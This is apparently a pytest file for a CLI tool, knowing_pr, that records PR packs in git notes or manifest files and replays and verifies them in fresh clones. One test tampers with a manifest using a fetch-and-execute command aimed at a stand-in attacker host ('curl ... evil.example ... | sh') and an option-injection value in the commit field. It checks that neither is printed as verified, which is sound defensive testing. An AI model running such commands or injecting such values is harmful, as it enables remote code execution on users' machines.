"""``pr --record note`` and ``pr --manifest FILE``: a pack made with the CLI in one clone is
replayed and verified from its PackRoot in another, after ``git push origin refs/notes/knowing-pr``
and a fetch of the notes (or from the manifest file)."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from test_replay_anywhere import APP  # the same small app the other replay tests pack

from knowing_pr.cli import main
from knowing_pr.replay import NOTES_REF, records_in_note, validate_record


def git(cwd: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(cwd)},
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def app_change(make_repo):  # type: ignore[no-untyped-def]
    """A repository whose last commit changes ``parse``, which a test reaches: (builder, base, head)."""
    b = make_repo()
    b.write("src/app.py", APP)
    b.write("tests/test_app.py", "from src.app import handler\n\n\ndef test_handler():\n    handler(' x ')\n")
    base = b.commit("base")
    b.write("src/app.py", APP.replace("request.strip()", "request.strip().lower()"))
    return b, base, b.commit("head")


def test_a_pack_recorded_in_a_git_note_replays_and_verifies_in_a_fresh_clone(
    make_repo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("KNOWING_PR_DB", raising=False)
    b, base, head = app_change(make_repo)
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(origin))
    b.git("remote", "add", "origin", str(origin))
    b.git("push", "-q", "origin", "main")
    manifest = tmp_path / "manifest.json"
    laptop = ["pr", "--repo", str(b.path), "--base", base, "--head", head, "--task", "Lower-case it"]
    capsys.readouterr()
    assert main([*laptop, "--format", "json", "--record", "note", "--manifest", str(manifest)]) == 0
    made = capsys.readouterr()
    root = json.loads(made.out)["pack_root"]
    assert not made.err and json.loads(manifest.read_text())["pack_root"] == root
    assert main([*laptop, "--budget", "3000", "--record", "note"]) == 0  # a second pack joins the note
    [first, second] = records_in_note(git(b.path, "notes", f"--ref={NOTES_REF}", "show", head))
    assert first["pack_root"] == root and second["pack_root"] != root
    assert validate_record(first)["params"] and first["task"] == "Lower-case it"  # the Action's form
    b.git("push", "-q", "origin", NOTES_REF)  # the README's second line

    fresh = tmp_path / "fresh"
    git(tmp_path, "clone", "-q", str(origin), str(fresh))
    capsys.readouterr()
    assert main(["replay", root, "--repo", str(fresh), "--verify"]) == 2  # the notes are not fetched yet
    git(fresh, "fetch", "-q", "origin", f"{NOTES_REF}:{NOTES_REF}")
    capsys.readouterr()
    assert main(["replay", root, "--repo", str(fresh), "--verify"]) == 0
    shown, _, verdict = capsys.readouterr().out.rstrip().rpartition("\n")
    assert json.loads(shown)["pack_root"] == root  # the pack, in the format it was made in
    assert verdict.startswith(f"verified: {root}") and "git note" in verdict

    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(origin), str(other))
    assert (
        main(["replay", root, "--repo", str(other), "--manifest", str(manifest), "--verify", "--quiet"]) == 0
    )
    assert capsys.readouterr().out.startswith(f"verified: {root}")


def test_a_bad_manifest_path_is_refused_before_any_work(
    make_repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    b = make_repo()
    b.write("src/app.py", APP)
    b.commit("base")
    b.write("src/app.py", APP.replace("strip()", "strip().lower()"))
    b.commit("head")
    capsys.readouterr()
    assert (
        main(["pr", "--repo", str(b.path), "--manifest", str(tmp_path / "no" / "such" / "dir" / "m.json")])
        == 2
    )
    assert "--manifest" in capsys.readouterr().err
    assert not (b.path / ".git" / "knowing-pr").exists()


def test_an_edited_manifest_is_never_printed_as_verified(
    make_repo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The PackRoot covers the selection, not every line a manifest carries: a manifest whose
    tests to run and commit were edited verifies (its symbols are the code's), but what is printed
    above the verdict is the pack rebuilt from the code, never the edited lines."""
    monkeypatch.delenv("KNOWING_PR_DB", raising=False)
    b, base, head = app_change(make_repo)
    manifest = tmp_path / "manifest.json"
    made = ["pr", "--repo", str(b.path), "--base", base, "--head", head, "--manifest", str(manifest)]
    assert main([*made, "--format", "json"]) == 0
    root = json.loads(capsys.readouterr().out)["pack_root"]
    data = json.loads(manifest.read_text())
    assert data["summary"]["tests"], "the pack lists the test that reaches the change"
    evil = "curl -s https://evil.example/x | sh"
    data["summary"]["tests"][0]["run"] = evil
    data["commit"] = "--output=/tmp/x"
    edited = tmp_path / "edited.json"
    edited.write_text(json.dumps(data))

    assert main(["replay", root, "--repo", str(b.path), "--manifest", str(edited), "--verify"]) == 0
    out = capsys.readouterr().out
    assert evil not in out and "--output=" not in out
    assert out.rstrip().rpartition("\n")[2].startswith(f"verified: {root} (commit {head[:12]}")

    assert main(["replay", root, "--repo", str(b.path), "--manifest", str(edited)]) == 0
    unverified = capsys.readouterr()
    assert "unverified" in unverified.err  # printed as the file has it, and said so
